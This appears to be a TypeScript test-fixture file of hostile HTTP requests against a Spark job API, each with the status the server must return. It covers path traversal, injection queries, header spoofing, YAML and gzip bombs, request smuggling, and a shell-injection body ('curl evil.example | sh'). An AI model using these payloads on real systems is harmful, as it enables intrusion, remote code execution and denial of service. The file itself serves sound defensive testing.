/** Requests that mean harm, as data: what each is, how it is sent, and every status that it may get. */
import { gzipSync } from 'node:zlib'
import { yamlBomb } from '../support/embedded-bad-input.ts'
import { readEvent } from '../support/embedded-stack.ts'
import type { RequestBody } from '../support/embedded-stack.ts'

const SPARK_PI = readEvent('specs/spark-pi.yaml')
const NOBODYS = `j${'2'.repeat(24)}`

/** A request by an ordinary client; `THEIRS` in a path is the id of another team's job, `TOKEN` one of its page tokens. */
export interface RequestCase {
  readonly what: string
  readonly method?: string
  readonly path: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: RequestBody
  readonly status: number | readonly number[]
}

const get = (
  what: string,
  path: string,
  status: RequestCase['status'],
  headers?: Record<string, string>,
): RequestCase => ({
  what,
  path,
  status,
  ...(headers !== undefined && { headers }),
})

const post = (
  what: string,
  status: RequestCase['status'],
  body: RequestBody,
  headers: Record<string, string> = {},
  path = '/v1/jobs',
): RequestCase => ({
  what,
  method: 'POST',
  path,
  body,
  headers: { 'content-type': 'application/yaml', 'idempotency-key': 'hostile', ...headers },
  status,
})

/** Clients normalise `..`, so those that must arrive as written are among the raw ones. */
const PATHS: readonly RequestCase[] = [
  ...[
    'THEIRS',
    NOBODYS,
    NOBODYS.toUpperCase(),
    `${NOBODYS}x`,
    NOBODYS.slice(1),
    'j',
    '0',
    '-1',
    'null',
    'undefined',
    '*',
  ].map(id => get(`the id ${id}`, `/v1/jobs/${id}`, 404)),
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty'].map(id => get(`the id ${id}`, `/v1/jobs/${id}`, 404)),
  get('an encoded slash', `/v1/jobs/..%2F..%2Fv1%2Fjobs`, 404),
  get('an encoded slash to an operation', `/v1/jobs/THEIRS%2Fspec`, 404),
  get('encoded dots', '/v1/jobs/%2e%2e%2fteams', 404),
  get('double encoding', '/v1/jobs/%252e%252e%252fwhoami', 404),
  get('an encoded NUL', `/v1/jobs/${NOBODYS}%00`, 404),
  get('an encoded line break', `/v1/jobs/${NOBODYS}%0d%0aSet-Cookie:%20x=1`, 404),
  get('the key of another team', '/v1/jobs/JOB%23risk%23THEIRS', 404),
  get('a key separator', `/v1/jobs/risk%23THEIRS`, 404),
  get('broken percent-encoding', '/v1/jobs/%zz', [400, 404]),
  get('half of a character', '/v1/jobs/%c3', [400, 404]),
  get('an overlong encoding of a slash', '/v1/jobs/%c0%af', [400, 404]),
  get('a full-width look-alike', `/v1/jobs/%EF%BD%8A${'2'.repeat(24)}`, 404),
  get('a matrix parameter', `/v1/jobs/${NOBODYS};team=risk`, 404),
  get('a trailing slash', `/v1/jobs/THEIRS/`, 404),
  get('a doubled slash', `/v1//jobs`, 404),
  get('a suffix', `/v1/jobs.json`, 404),
  get('capitals', '/V1/JOBS', 404),
  get('an operation that is none', `/v1/jobs/THEIRS/exec`, 404),
  get('another team in the path', '/v1/teams/risk/jobs', 404),
  get('the usage of another team', '/v1/teams/risk/usage', 404),
  get('the usage of a prototype', '/v1/teams/__proto__/usage', 404),
  get('a very long path', `/v1/jobs/${'a'.repeat(8_000)}`, 404),
  get('a longer path than a front takes', `/v1/jobs/${'a'.repeat(12_000)}`, [414, 431]),
  ...['attempts', 'events', 'spec', 'logs'].map(part => get(`their ${part}`, `/v1/jobs/THEIRS/${part}`, 404)),
  ...['cancel', 'retry'].map((part): RequestCase => ({
    what: `to ${part} their job`,
    method: 'POST',
    path: `/v1/jobs/THEIRS/${part}`,
    status: 404,
  })),
  { what: 'to delete their job', method: 'DELETE', path: '/v1/jobs/THEIRS', status: 404 },
  { what: 'to drain a cluster', method: 'POST', path: '/v1/clusters/local/drain', status: 403 },
  { what: 'to resume a cluster', method: 'POST', path: '/v1/clusters/local/resume', status: 403 },
  { what: 'to pause another team', method: 'POST', path: '/v1/teams/risk/pause', status: 403 },
  { what: 'to resume its own team', method: 'POST', path: '/v1/teams/payments/resume', status: 403 },
]

/** Different ids of the right form. */
const manyIds = (count: number): string =>
  Array.from({ length: count }, (_, index) => {
    const letters = index.toString(8).replaceAll(/[0-7]/g, digit => 'abcdefgh'[Number(digit)] ?? '')
    return `j${letters.padStart(24, '2')}`
  }).join(',')

const QUERIES: readonly RequestCase[] = [
  'limit=0',
  'limit=101',
  'limit=-1',
  'limit=1e2',
  'limit=0x10',
  'limit=',
  'limit=1&limit=2',
  'limit=9999999999999999999',
  'state=running',
  'state=RUNNING&state=FAILED',
  'state=__proto__',
  'state=RUNNING%00',
  'name=*',
  'name=a%27%20OR%20%271%27=%271',
  'name=',
  'cluster=..',
  'trigger=API',
  'label=a',
  'label==b',
  'label=__proto__%3D%7B%7D%3D',
  'label=a%3Db%3Dc',
  'since=yesterday',
  'since=2026-13-45T00:00:00Z',
  'since=2026-11-21',
  'since=2026-11-21T00:00:00Z&until=2026-11-20T00:00:00Z',
  'until=1',
  'team=risk',
  'owner=risk',
  'nextToken=',
  'nextToken=e30',
  'nextToken=TOKEN',
  'nextToken=TOKEN&state=RUNNING',
  'nextToken=eyJwayI6eyJTIjoiSk9CI3Jpc2sjeCJ9fQ',
  `nextToken=${'A'.repeat(4_000)}`,
  'ids=',
  'ids=THEIRS&limit=1',
  'ids=THEIRS,x',
  `ids=${manyIds(101)}`,
  '$where=1',
  'state[$ne]=RUNNING',
  'callback=alert',
  '_method=DELETE',
  '%00=1',
].map(query => get(`the query ${query.slice(0, 60)}`, `/v1/jobs?${query}`, 400))

const JOB_QUERIES: readonly RequestCase[] = [
  get('a wait that is too long', `/v1/jobs/${NOBODYS}?wait=26`, 400),
  get('a wait that is none', `/v1/jobs/${NOBODYS}?wait=NaN`, 400),
  get('a wait for their job', `/v1/jobs/THEIRS?wait=1`, 404),
  get('a log of no role', `/v1/jobs/${NOBODYS}/logs?role=root`, 400),
  get('a log of a path', `/v1/jobs/${NOBODYS}/logs?role=executor-1/../../x`, 400),
  get('a log of an executor 0', `/v1/jobs/${NOBODYS}/logs?role=executor-0`, 400),
  get('a log of a container', `/v1/jobs/${NOBODYS}/logs?container=sidecar`, 400),
  get('a log of too many lines', `/v1/jobs/${NOBODYS}/logs?tail=10001`, 400),
  get('a log since a text', `/v1/jobs/${NOBODYS}/logs?since=x`, 400),
  get('a log since a day that is none', `/v1/jobs/${NOBODYS}/logs?since=2026-99-99T00:00:00Z`, 400),
  get('a log with more parameters of Kubernetes', `/v1/jobs/${NOBODYS}/logs?tail=1%26container=x`, 400),
  get('a spec of attempt 0', `/v1/jobs/${NOBODYS}/spec?attempt=0`, 400),
]

const HEADERS: readonly RequestCase[] = [
  get('an X-Team', '/v1/jobs/THEIRS', 404, { 'x-team': 'risk' }),
  get('an X-Forwarded-User', '/v1/jobs/THEIRS', 404, { 'x-forwarded-user': 'risk', 'x-amzn-oidc-data': 'risk' }),
  get('a cookie of a team', '/v1/jobs/THEIRS', 404, { cookie: 'team=risk; sparkgate:team=risk' }),
  get('an X-Original-URL', '/v1/whoami', 200, { 'x-original-url': '/v1/clusters/local/drain' }),
  get('an X-Rewrite-URL', '/v1/whoami', 200, { 'x-rewrite-url': '/v1/teams/risk/usage' }),
  get('a method override on GET', '/v1/jobs', 200, { 'x-http-method-override': 'POST' }),
  {
    what: 'a method override on POST',
    method: 'POST',
    path: '/v1/jobs/THEIRS/cancel',
    status: 404,
    headers: { 'x-http-method-override': 'GET', 'x-method-override': 'GET', 'x-http-method': 'GET' },
  },
  get('an Accept of HTML', '/v1/jobs', 406, { accept: 'text/html' }),
  get('an Accept that refuses JSON', '/v1/jobs', 406, { accept: 'application/json;q=0' }),
  get('an Accept of nothing known', '/v1/jobs', 406, { accept: 'image/png, application/xml;q=0.9' }),
  get('an Accept of many ranges', '/v1/jobs', 200, { accept: `${'a/b,'.repeat(500)}*/*;q=0.1` }),
  get('a token in the query only', '/v1/jobs?access_token=x', 400),
  get('an empty Authorization', '/v1/jobs', 401, { authorization: '' }),
  get('Basic credentials', '/v1/jobs', 401, { authorization: 'Basic cGF5bWVudHM6eA==' }),
  get('Negotiate', '/v1/jobs', 401, { authorization: 'Negotiate YII=' }),
  get('Bearer and nothing', '/v1/jobs', 401, { authorization: 'Bearer' }),
  get('a bearer in quotes', '/v1/jobs', 401, { authorization: 'Bearer "x.y.z"' }),
  get('a bearer of 9,000 characters', '/v1/jobs', [401, 431], { authorization: `Bearer ${'a'.repeat(9_000)}` }),
  get('an If-None-Match of much', `/v1/jobs/${NOBODYS}`, 404, { 'if-none-match': '"x",'.repeat(1_000) }),
]

const MIB = 1024 * 1024
const BODIES: readonly RequestCase[] = [
  post('no content type', 415, new TextEncoder().encode(SPARK_PI), { 'content-type': '' }),
  post('HTML', 415, SPARK_PI, { 'content-type': 'text/html' }),
  post('a form', 415, 'spec=1', { 'content-type': 'application/x-www-form-urlencoded' }),
  post('a multipart form', 415, '--x--', { 'content-type': 'multipart/form-data; boundary=x' }),
  post('JSON in the type of a merge patch', 415, '{}', { 'content-type': 'application/merge-patch+json' }),
  post('two content types', 415, SPARK_PI, { 'content-type': 'application/yaml, application/json' }),
  post('UTF-16', 415, SPARK_PI, { 'content-type': 'application/yaml; charset=utf-16' }),
  post('UTF-7', 415, SPARK_PI, { 'content-type': 'application/yaml; charset=utf-7' }),
  post('two character sets', 415, SPARK_PI, { 'content-type': 'application/yaml; charset=utf-8; charset=utf-16' }),
  post('gzip', 415, new Uint8Array(gzipSync(SPARK_PI)), { 'content-encoding': 'gzip' }),
  post('a gzip bomb', 415, new Uint8Array(gzipSync(Buffer.alloc(16 * MIB))), { 'content-encoding': 'gzip' }),
  post('brotli twice', 415, SPARK_PI, { 'content-encoding': 'br, br' }),
  post('gzip without saying so', 422, new Uint8Array(gzipSync(SPARK_PI))),
  post('over the size of a spec', 413, 'x'.repeat(300_000)),
  post('over the size of a front', 413, 'x'.repeat(11 * MIB)),
  post('over the size, to be checked', 413, 'x'.repeat(300_000), {}, '/v1/validate'),
  post('over the size, to be converted', 413, 'x'.repeat(300_000), {}, '/v1/convert'),
  post('nothing', 422, ''),
  post('a NUL', 422, 'name: a\0b\n'),
  post('a byte order mark of UTF-16', 422, Uint8Array.from([0xff, 0xfe, 0x61, 0x00])),
  post('invalid UTF-8', 422, Uint8Array.from([0x6e, 0x3a, 0xc3, 0x28])),
  post('a YAML bomb', 422, yamlBomb()),
  post('deep nesting', 422, '['.repeat(20_000), { 'content-type': 'application/json' }),
  post('a deep map', 422, '{"a":'.repeat(20_000), { 'content-type': 'application/json' }),
  post('a YAML tag that makes objects', 422, '!!js/function "function () { return 1 }"'),
  post('a Python tag', 422, '!!python/object/apply:os.system ["id"]'),
  post('a merge key', 422, `${SPARK_PI}\n<<: {kind: Pod}\n`),
  post('a prototype key', 422, '{"__proto__": {"admin": true}, "main": "local:///x.py"}', {
    'content-type': 'application/json',
  }),
  post('a repeated key', 422, '{"kind":"SparkApplication","kind":"Pod"}', { 'content-type': 'application/json' }),
  post('a Pod', 422, 'apiVersion: v1\nkind: Pod\nmetadata: {name: x}\nspec: {containers: []}\n'),
  post('a List of jobs', 422, 'apiVersion: v1\nkind: List\nitems: []\n'),
  post(
    'another team’s namespace, which becomes our own',
    200,
    SPARK_PI.replace('metadata:\n', 'metadata:\n  namespace: team-risk\n'),
    {},
    '/v1/jobs?dryRun=render',
  ),
  post(
    'another team’s label',
    422,
    SPARK_PI.replace('metadata:\n', 'metadata:\n  labels: {sparkgate.dev/team: risk}\n'),
  ),
  post(
    'a cluster that it may not use',
    422,
    SPARK_PI.replace('metadata:\n', 'metadata:\n  annotations: {sparkgate.dev/cluster: elsewhere}\n'),
  ),
  post(
    'a wait for another team’s job',
    422,
    SPARK_PI.replace('metadata:\n', 'metadata:\n  annotations: {sparkgate.dev/depends-on: THEIRS}\n'),
  ),
  post('a command behind spark-submit', 422, 'spark-submit --class A local:///a.jar; curl evil.example | sh', {
    'content-type': 'text/x-spark-submit',
  }),
  post('a command inside spark-submit', 422, 'spark-submit --class A local:///a.jar $(id)', {
    'content-type': 'text/x-spark-submit',
  }),
  post('no key', 400, SPARK_PI, { 'idempotency-key': '' }),
  post('a key of 256 characters', 400, SPARK_PI, { 'idempotency-key': 'k'.repeat(256) }),
  post('a key with a blank', 400, SPARK_PI, { 'idempotency-key': 'a b' }),
  post('a key beyond ASCII', 400, SPARK_PI, { 'idempotency-key': 'k\u00e9' }),
  post('two keys in one', 400, SPARK_PI, { 'idempotency-key': 'a,b' }),
  post('a dry run that is none', 400, SPARK_PI, {}, '/v1/jobs?dryRun=all'),
  post('two dry runs', 400, SPARK_PI, {}, '/v1/jobs?dryRun=render&dryRun=server'),
  post('a conversion into another form', 400, SPARK_PI, {}, '/v1/convert?to=helm'),
]

const METHODS: readonly RequestCase[] = [
  ...['PUT', 'PATCH', 'DELETE'].map((method): RequestCase => ({
    what: `${method} on the list`,
    method,
    path: '/v1/jobs',
    status: 405,
  })),
  ...['PUT', 'PATCH', 'POST'].map((method): RequestCase => ({
    what: `${method} on their job`,
    method,
    path: '/v1/jobs/THEIRS',
    status: 405,
  })),
  { what: 'a WebDAV method', method: 'PROPFIND', path: '/v1/jobs', status: [400, 404, 405] },
  { what: 'a method of nobody', method: 'SPARK', path: '/v1/jobs', status: [400, 404, 405] },
  { what: 'GET on an operation', method: 'GET', path: '/v1/jobs/THEIRS/cancel', status: 405 },
]

export const REQUESTS: readonly RequestCase[] = [
  ...PATHS,
  ...QUERIES,
  ...JOB_QUERIES,
  ...HEADERS,
  ...BODIES,
  ...METHODS,
]

/** Bytes on the wire that no client writes; AUTH is a good Authorization header of the team. */
export const RAW: readonly (readonly [string, string, readonly number[]])[] = [
  ['a path with dots', 'GET /v1/jobs/../teams/risk/usage HTTP/1.1\r\nHost: x\r\nAUTH\r\n\r\n', [404]],
  [
    'a path of dots to an admin route',
    'POST /v1/jobs/../clusters/local/drain HTTP/1.1\r\nHost: x\r\nAUTH\r\n\r\n',
    [404, 405],
  ],
  ['a backslash', 'GET /v1\\jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\n\r\n', [400, 404]],
  ['an absolute target', 'GET http://evil.example/v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\n\r\n', [400, 404]],
  ['a star', 'OPTIONS * HTTP/1.1\r\nHost: x\r\nAUTH\r\n\r\n', [400, 404]],
  ['CONNECT', 'CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\nAUTH\r\n\r\n', [400, 404, 405, 0]],
  ['TRACE', 'TRACE /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\n\r\n', [400, 404, 405]],
  [
    'two Authorization headers',
    'GET /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\nAuthorization: Bearer x\r\n\r\n',
    [400, 401],
  ],
  ['the same Authorization twice', 'GET /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\nAUTH\r\n\r\n', [400, 401]],
  ['two Host headers', 'GET /v1/jobs HTTP/1.1\r\nHost: x\r\nHost: y\r\nAUTH\r\n\r\n', [200, 400]],
  [
    'two keys',
    'POST /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\nContent-Type: application/yaml\r\nIdempotency-Key: a\r\nIdempotency-Key: b\r\nContent-Length: 2\r\n\r\n{}',
    [400],
  ],
  [
    'two content types',
    'POST /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\nContent-Type: application/yaml\r\nContent-Type: text/html\r\nIdempotency-Key: a\r\nContent-Length: 2\r\n\r\n{}',
    [400, 415],
  ],
  [
    'two lengths',
    'POST /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}}',
    [400],
  ],
  [
    'a length beside chunks (request smuggling)',
    'POST /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/whoami HTTP/1.1\r\nHost: x\r\n\r\n',
    [400],
  ],
  [
    'chunks of no size',
    'POST /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n',
    [400, 0],
  ],
  [
    'a header that is folded',
    'GET /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\nX-A: b\r\n Authorization: c\r\n\r\n',
    [200, 400, 401],
  ],
  ['a header without a name', 'GET /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\n: b\r\n\r\n', [400]],
  ['a blank before the colon', 'GET /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\nX-Team : risk\r\n\r\n', [400]],
  ['a NUL in a header', 'GET /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\nX-A: b\0c\r\n\r\n', [400]],
  ['no host', 'GET /v1/jobs HTTP/1.1\r\nAUTH\r\n\r\n', [400]],
  ['another protocol', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', [400, 0]],
  ['no protocol', 'GET /v1/jobs\r\n\r\n', [400, 401, 0]],
]

/** Its sender leaves before it is whole. */
export const CUT =
  'POST /v1/jobs HTTP/1.1\r\nHost: x\r\nAUTH\r\nIdempotency-Key: cut\r\nContent-Type: application/yaml\r\nContent-Length: 100\r\n\r\nname: cut'
